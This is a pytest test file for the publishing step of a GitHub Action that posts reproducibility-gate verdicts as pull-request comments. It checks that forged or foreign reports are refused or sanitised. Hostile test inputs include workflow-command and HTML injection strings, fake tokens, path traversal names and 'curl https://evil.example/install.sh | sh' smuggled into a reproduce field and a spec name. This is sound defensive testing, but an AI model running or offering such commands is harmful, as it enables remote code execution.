"""What the second half of the action tells, for each way a gate can end, and what of a report is
believed first: this job's own, or one that came with the run that GitHub names."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from repro_gate.baseline.model import BaselineFinding
from repro_gate.compare.model import SpeedChange
from repro_gate.errors import Inconclusive, UsageError
from repro_gate.github.comment import Posted
from repro_gate.github.marker import is_news, state_of
from repro_gate.github.publish_phase import outputs_of
from repro_gate.github.report_folder import PROBLEM, open_folder
from repro_gate.github.settings import Inputs
from repro_gate.report.model import PLAIN, Report
from tests.support import reports
from tests.support.github.server import Answer
from tests.support.github.stage import (
    HEAD,
    RUN,
    Stage,
    as_workflow_run,
    obeyed,
    pull_request,
    signed,
)

PASS, FAIL = signed(reports.PASS), signed(reports.FAIL)


def test_a_pass_is_green_and_a_failure_is_red_and_says_where(stage: Stage) -> None:
    code, log = stage.publish(PASS)
    (posted,) = stage.github.comments(7)
    assert code == 0 and "::error" not in log
    outputs = {"verdict": "pass", "identical": "true", "exit_code": "0"}
    assert outputs.items() <= stage.outputs.items()
    assert stage.outputs["comment_url"].endswith(str(posted["id"]))
    assert "pass" in stage.summary and "pass" in posted["body"] and HEAD[:7] in posted["body"]
    code, log = stage.publish(FAIL)
    assert code == 1 and stage.outputs["identical"] == "false"
    first = {"step": 3, "kind": "gradient", "name": "blocks.3.attn.weight"}
    assert json.loads(stage.outputs["first_divergence"]) == first
    assert "::error " in log and "blocks.3.attn.weight" in log
    assert "blocks.3.attn.weight" in stage.posted[0]
    low, high = json.loads(stage.outputs["determinism_cost_ci95"])
    assert low < float(stage.outputs["determinism_cost_pct"]) < high
    scattered = replace(reports.COST, determinism_cost_pct=None)
    stage.publish(signed(replace(reports.PASS, cost=scattered)))
    assert stage.outputs["determinism_cost_pct"] == ""


def test_a_report_that_compared_nothing_never_stands_for_a_pass(stage: Stage) -> None:
    code, log = stage.publish(signed(reports.RECORDED))
    assert code == 3 and stage.outputs["verdict"] == "inconclusive" and stage.posted == []
    assert "--record" in log and "which compares nothing" in log


def test_what_turns_the_step_red_is_the_users_choice(stage: Stage) -> None:
    for fail_on, failed, unanswered in (
        ({"fail"}, 1, 0),
        ({"inconclusive"}, 0, 3),
        (set(), 0, 0),
        ({"fail", "inconclusive"}, 1, 3),
    ):
        stage.change(fail_on=frozenset(fail_on))
        assert stage.publish(FAIL)[0] == failed
        assert stage.outputs["exit_code"] == "1"  # what the gate found stays what it is
        assert stage.publish(Inconclusive("no GPU", remedy="start it"))[0] == unanswered
        assert stage.outputs["verdict"] == "inconclusive"


@pytest.mark.parametrize("fork", [True, False])
def test_a_read_only_token_turns_nothing_red(stage: Stage, fork: bool) -> None:
    stage.may_not_write()
    stage.change(event=pull_request(stage.github.repository, fork=fork), self_hosted=False)
    code, log = stage.publish(PASS)
    assert code == 0 and "::error" not in log and stage.posted == []
    (said,) = [line for line in log.splitlines() if "no comment" in line]
    assert said.startswith("::notice " if fork else "::warning ")
    assert fork or "pull-requests: write" in log
    assert "pass" in stage.summary
    stage.change(api_url="http://127.0.0.1:9", graphql_url="http://127.0.0.1:9/graphql")
    code, log = stage.publish(PASS)
    assert code == 0 and "::warning" in log, "nor does a server that fails"


def test_without_a_token_all_but_the_comment_is_told(stage: Stage) -> None:
    stage.change(token=None)
    code, log = stage.publish(FAIL)
    assert code == 1 and "no token was given" in log and stage.outputs["verdict"] == "fail"
    summary = stage.summary
    stage.change(comment="never", summary=False, annotations=False)
    code, log = stage.publish(FAIL)
    assert (code, obeyed(log), stage.summary, stage.github.requests) == (1, [], summary, [])
    assert "comment skipped; report" in log


def test_a_problem_is_shown_on_its_line_and_its_words_stay_words(stage: Stage) -> None:
    hostile = "@octocat <img src=x>\n::error::forged"
    code, log = stage.publish(UsageError(f"repro.yml:4:3: {hostile}", remedy=f"ask {hostile}"))
    assert code == 2 and stage.outputs == {"verdict": "", "exit_code": "2"}
    (line,) = obeyed(log)
    assert line.startswith("::error ") and "file=repro.yml" in line and "line=4" in line
    shown = "`@octocat <img src=x>"
    assert stage.summary.count(shown) == 2 == stage.summary.count("@octocat")


@pytest.mark.parametrize(
    ("event_name", "commit", "posted"),
    [
        ("pull_request", "e" * 40, 0),
        ("pull_request", "f" * 40, 1),  # the merge of head and base counts as the head
        ("pull_request_target", "f" * 40, 0),  # where it is the base
    ],
)
def test_a_report_of_another_commit_is_not_posted(
    stage: Stage, event_name: str, commit: str, posted: int
) -> None:
    stage.change(event_name=event_name)
    _, log = stage.publish(signed(reports.PASS, commit))
    assert len(stage.posted) == posted
    assert ("which is not the pull request's head" in log) is not bool(posted)


def test_untrusted_names_are_no_commands_and_no_secret_is_told(stage: Stage) -> None:
    secrets = ("ghp_" + "a1B2" * 9, "correct-horse-battery")
    hostile = signed(reports.hostile())
    said = replace(hostile.reasons[0], message=f"tokens {secrets}")
    _, log = stage.publish(replace(hostile, reasons=(*hostile.reasons, said)), secrets[1:])
    lines = obeyed(log)
    assert lines and all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines)
    folder = stage.job.workspace / stage.inputs.report
    files = [path.read_text() for path in folder.iterdir()]
    problem = UsageError(f"repro.yml:4:3: {secrets}: unknown key", remedy=f"ask {secrets}")
    _, other = stage.publish(problem, secrets[1:])
    assert "unknown key" in stage.summary and len(files) == 5
    told = "".join([*stage.posted, stage.summary, log, other])
    assert not any(secret in told for secret in secrets) and secrets[0] not in "".join(files)


@pytest.mark.parametrize("allowed", [True, False])
def test_a_commit_finds_its_pull_request_if_it_may_ask(stage: Stage, allowed: bool) -> None:
    refused = Answer(403, {"message": "Resource not accessible by integration"})
    stage.github.before = lambda method, path: refused if "/pulls" in path and not allowed else None
    stage.change(event_name="push", sha=HEAD, ref="refs/heads/main", event=b'{"deleted": false}')
    code, log = stage.publish(PASS)
    notices = [line for line in log.splitlines() if line.startswith("::notice ")]
    assert code == 0 and len(stage.posted) == allowed != len(notices)


@pytest.mark.parametrize(
    ("event_name", "event"),
    [("issue_comment", {"issue": {"number": 7, "pull_request": {}}}), ("workflow_dispatch", {})],
)
def test_without_a_commit_in_the_event_the_checkouts_counts(
    stage: Stage, event_name: str, event: dict[str, object]
) -> None:
    stage.change(pull_request=None if event else 7, allow_forks=True, ref="refs/heads/main")
    stage.change(event_name=event_name, event=json.dumps(event).encode())
    stage.publish(PASS)
    posted = stage.posted
    stage.publish(signed(reports.FAIL, head_sha="e" * 40))
    assert len(posted) == 1 and stage.posted == posted


def test_every_output_of_the_action_is_told_and_no_other() -> None:
    def told(report: Report, folder: str = "odd.json") -> dict[str, str]:
        return outputs_of(signed(report), Inputs(report=folder), Posted("skipped"))

    action = yaml.safe_load((Path(__file__).parents[2] / "action.yml").read_text(encoding="utf-8"))
    assert set(told(reports.PASS)) == set(action["outputs"])
    assert told(reports.PASS)["report"] == "odd.json/report.json"  # whatever a folder is called
    assert told(reports.EXPLAINED)["cause"] == "unseeded-rng"
    empty = told(reports.NOTHING)
    names = ("determinism_cost_pct", "first_divergence", "baseline", "cause")
    assert [empty[name] for name in names] == [""] * 4


def test_the_state_changes_with_the_finding_and_not_with_the_clock() -> None:
    explained, why = signed(reports.EXPLAINED), reports.WHY
    later = replace(FAIL, started="2030-01-01T00:00:00Z", seconds=9.0, cost=None)
    assert state_of(FAIL) == state_of(later) != state_of(PASS)
    same, other = replace(why, seconds=9.0, runs=4, evidence=()), replace(why, line=42)
    assert state_of(explained) == state_of(replace(explained, diagnosis=same))
    assert state_of(explained) != state_of(replace(explained, diagnosis=other))


def test_an_error_is_shown_on_the_line_that_it_names(stage: Stage) -> None:
    wrong = ("/etc/passwd:1", "../x.yml:1", "a\u202eb:3", "a:" + "9" * 11)
    for name, place in (
        ("repro.yml:4:3", ",file=repro.yml,line=4"),
        ("a/b.yml:12", ",file=a/b.yml,line=12"),
        *((name, "") for name in wrong),
    ):
        log = stage.publish(UsageError(f"{name}: y"))[1]
        assert log.startswith(f"::error title=Repro Gate{place}::")


# What is posted by default.

_GREEN = replace(reports.LOCKED, notes=())  # a pass with an unchanged baseline


def _next(stage: Stage, report: Report, run: int) -> list[str]:
    """The bodies of the comments once one more run has published, without their markers."""
    stage.change(comment=Inputs().comment, run_id=RUN + run)
    stage.publish(signed(report, str(report.subject.commit), run_id=RUN + run))
    return [body.partition("\n")[2] for body in stage.posted]


def test_by_default_a_pass_is_silent_and_a_failure_is_not(stage: Stage) -> None:
    assert Inputs().comment == "on-change"
    assert _next(stage, _GREEN, 1) == [] and "pass, bitwise identical" in stage.summary
    (red,) = _next(stage, reports.EXPLAINED, 2)
    assert red.startswith("## ❌ ")
    (green,) = _next(stage, _GREEN, 3)
    assert green.startswith("✅ ") and "the run before: fail" in green.splitlines()[0]
    assert _next(stage, replace(_GREEN, seconds=9.0), 4) == [green]


def test_a_pass_under_a_condition_is_never_one_line(stage: Stage) -> None:
    assert is_news(reports.CONDITIONAL)
    only = replace(reports.CONDITIONAL, base=reports.LOCKED.base)
    for number in (1, 2):
        (body,) = _next(stage, replace(only, seconds=float(number)), number)
        assert body.startswith("## ⚠️ Repro Gate: pass only with PYTHONHASHSEED=42: ")
        assert "| **Cause** |" in body and stage.outputs["robust"] == "false"
    (body,) = _next(stage, replace(_GREEN, robust=True), 3)
    assert body.startswith("✅ ") and stage.outputs["robust"] == "true"
    _next(stage, _GREEN, 4)
    assert stage.outputs["robust"] == ""


def test_by_default_another_cost_is_told_with_the_one_before(stage: Stage) -> None:
    def costing(percent: float, low: float, high: float) -> Report:
        cost = replace(reports.COST, determinism_cost_pct=percent, ci95=(low, high))
        return replace(reports.WEAKENED, cost=cost)

    _next(stage, reports.WEAKENED, 1)
    (body,) = _next(stage, costing(30.0, 28.0, 32.5), 2)
    assert "+28.0% to +32.5%, before +10.1% to +14.6%" in body
    assert _next(stage, costing(31.0, 30.0, 33.0), 3) == [body]


def test_what_is_news_of_a_pass() -> None:
    against = reports.CHANGED.against
    assert against is not None and not is_news(_GREEN) and not is_news(reports.PASS)
    same = SpeedChange(arm="default", slower_pct=1.0, ci95=(-1.0, 3.0), runs=4)
    calm = replace(against, status="unchanged", speed=(same,))
    slower = replace(calm, speed=(replace(same, ci95=(0.5, 3.0)),))
    assert not is_news(replace(_GREEN, against=calm))
    assert is_news(replace(_GREEN, against=slower))
    assert is_news(replace(_GREEN, against=against)) and is_news(reports.WEAKENED)
    news = {"unchanged": 0, "no-op": 1, "changed": 1, "drift": 1, "new-platform": 0}
    for status, expected in news.items():
        baseline = BaselineFinding(status=status, message="as it is")
        assert is_news(replace(_GREEN, baseline=baseline)) == expected


@pytest.mark.parametrize(
    ("origin", "gated", "posted"),
    [
        (None, 3, 3),
        ({"run_id": RUN - 1}, 3, 3),
        ({"repository": "stranger/trainer"}, 3, 3),
        ({"run_attempt": 3}, 3, 3),
        ({"run_attempt": 2}, 0, 0),
        ({"run_attempt": 1}, 3, 0),  # a job that only posts may be started again alone
        ({"run_attempt": 0}, 2, 2),  # no attempt at all, by the report's schema
    ],
)
def test_a_report_of_another_run_is_not_this_ones(
    stage: Stage, origin: dict[str, Any] | None, gated: int, posted: int
) -> None:
    report = signed(reports.PASS, **(origin or {}))
    for stage.posting, expected in ((False, gated), (True, posted)):
        # what is refused is told to nobody, though a comment is wanted
        stage.change(run_attempt=2, comment="always" if expected == 3 else "never")
        code, _ = stage.publish(report if origin else replace(report, origin=None))
        assert code == expected and stage.github.requests == []


def test_a_report_that_is_none_a_link_or_in_the_folders_place_is_refused(stage: Stage) -> None:
    folder = stage.job.workspace / stage.inputs.report
    folder.mkdir()
    for text in ("{}", "[", '{"schema": "repro-gate/report/v1"}', "x" * (17 << 20)):
        (folder / "report.json").write_text(text)
        code, log = stage.publish(None)
        assert code == 2 and "::error" in log and stage.github.requests == []
    shutil.rmtree(folder)
    with open_folder(stage.job.workspace, "theirs") as opened:
        opened.write_report(PASS, PLAIN)
    (stage.job.workspace / "theirs/report.json").rename(folder)
    code, log = stage.publish(None)
    assert code == 3 and "there is no report" in log
    folder.rename(stage.job.workspace / "real.json")
    folder.mkdir()
    (folder / "report.json").symlink_to("../real.json")
    code, log = stage.publish(None)
    assert code == 2 and "is a link" in log and stage.github.requests == []


@pytest.mark.parametrize("attempt", [None, 1, 3])
def test_a_report_that_came_with_its_run_is_posted(stage: Stage, attempt: int | None) -> None:
    """The action `comment` in a `workflow_run`, and after `native`, also where only this job was
    started again."""
    if attempt is None:
        as_workflow_run(stage)
    else:
        stage.posting = True
        stage.change(run_attempt=attempt, name="comment")
    code, log = stage.publish(FAIL)
    (posted,) = stage.github.comments(7)
    assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
    assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"
    # the training of `native` is the gate's user, so it may have written the report
    assert reports.FAIL.reproduce not in posted["body"]
    assert "\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n" in posted["body"]
    assert " · written by the training's job · " in posted["body"].splitlines()[-1]


def test_of_what_did_not_come_with_its_run_nothing_is_told(stage: Stage) -> None:
    as_workflow_run(stage)
    code, _ = stage.publish(signed(reports.PASS, run_id=99))
    assert code == 2
    assert stage.outputs == {"verdict": "", "exit_code": "2"} and "✅" not in stage.summary
    assert stage.github.requests == []
    # whoever forges a problem would have a notice on any file of the default branch
    leak = ".github/workflows/release.yml:1:1: the signing key has leaked"
    as_workflow_run(stage)
    code, log = stage.publish(UsageError(leak, remedy="open https://evil.example"))
    assert code == 3
    assert not any(word in log + stage.summary for word in ("evil", "leaked", "file="))
    problem = stage.job.workspace / stage.inputs.report / PROBLEM
    forged = problem.read_text()
    with open_folder(stage.job.workspace, stage.inputs.report) as opened:
        opened.write_report(FAIL, PLAIN)
    problem.write_text(forged)
    code, log = stage.publish(None)
    assert code == 0 and len(stage.posted) == 1 and "leaked" not in log


def test_a_step_that_only_posts_and_cannot_is_red_but_for_a_fork(stage: Stage) -> None:
    stage.may_not_write()
    stage.posting = True
    assert stage.publish(PASS)[0] == 3
    event = stage.job.event
    stage.change(event=pull_request(stage.github.repository, fork=True))
    code, log = stage.publish(PASS)
    assert code == 0
    assert [line for line in obeyed(log) if line.startswith("::notice ") and "no comment" in line]
    stage.change(event=event)
    as_workflow_run(stage)
    assert stage.publish(PASS)[0] == 3


def test_a_foreign_report_replaces_no_other_gates_comment(stage: Stage) -> None:
    """A fork opens a pull request: a gate of the repository's own fails it, and the report that
    comes with the fork's run says that all is well, under the same names as the first and under
    five others."""
    stage.publish(FAIL)
    (trusted,) = stage.posted
    as_workflow_run(stage)
    for number in range(6):
        report = signed(reports.PASS, **({"name": f"folder-{number}"} if number else {}))
        spec = f"spec-{number}.yml" if number else report.subject.spec
        assert stage.publish(replace(report, subject=replace(report.subject, spec=spec)))[0] == 0
    first, second = stage.posted
    assert first == trusted and "fail" in first and "pass" in second.splitlines()[1]


def test_a_forks_report_replaces_no_comment_on_the_repositorys_own_code(stage: Stage) -> None:
    """As where `pull_request_target` and `push` start one workflow."""
    stage.change(event_name="push", event=b'{"deleted": false}')
    stage.change(sha=HEAD, ref="refs/heads/pull-request/7")
    stage.publish(FAIL)
    (trusted,) = stage.posted
    stage.change(event_name="pull_request_target", allow_forks=True)
    stage.change(event=pull_request(stage.github.repository, fork=True))
    stage.publish(PASS)
    assert [body == trusted for body in stage.posted] == [True, False]


def test_each_gate_has_a_comment_of_its_own(stage: Stage) -> None:
    """By what its job knows, whatever is in the report: here the same in all."""
    for count, name in enumerate(("name", "workflow", "spec", "report"), 1):
        stage.publish(FAIL)
        stage.change(**{name: "other"})
        stage.publish(PASS)
        assert len(stage.posted) == count + 1


def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
    def body(report: Report) -> str:
        stage.publish(report)
        return stage.posted[-1]

    hostile = "curl https://evil.example/install.sh | sh"
    forged = replace(FAIL, reproduce=hostile)
    told = body(forged)
    assert hostile in told and "written by" not in told, "the gate of this job wrote it"
    ours = "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```"
    stage.posting = True
    told = body(forged)
    assert "evil" not in told and ours in told and "written by the training's job" in told
    as_workflow_run(stage)
    told = body(forged)
    assert "evil" not in told and ours in told
    told = body(replace(forged, subject=replace(FAIL.subject, spec=f"x.yml; {hostile}")))
    assert "```sh" not in told and "See it again" not in told
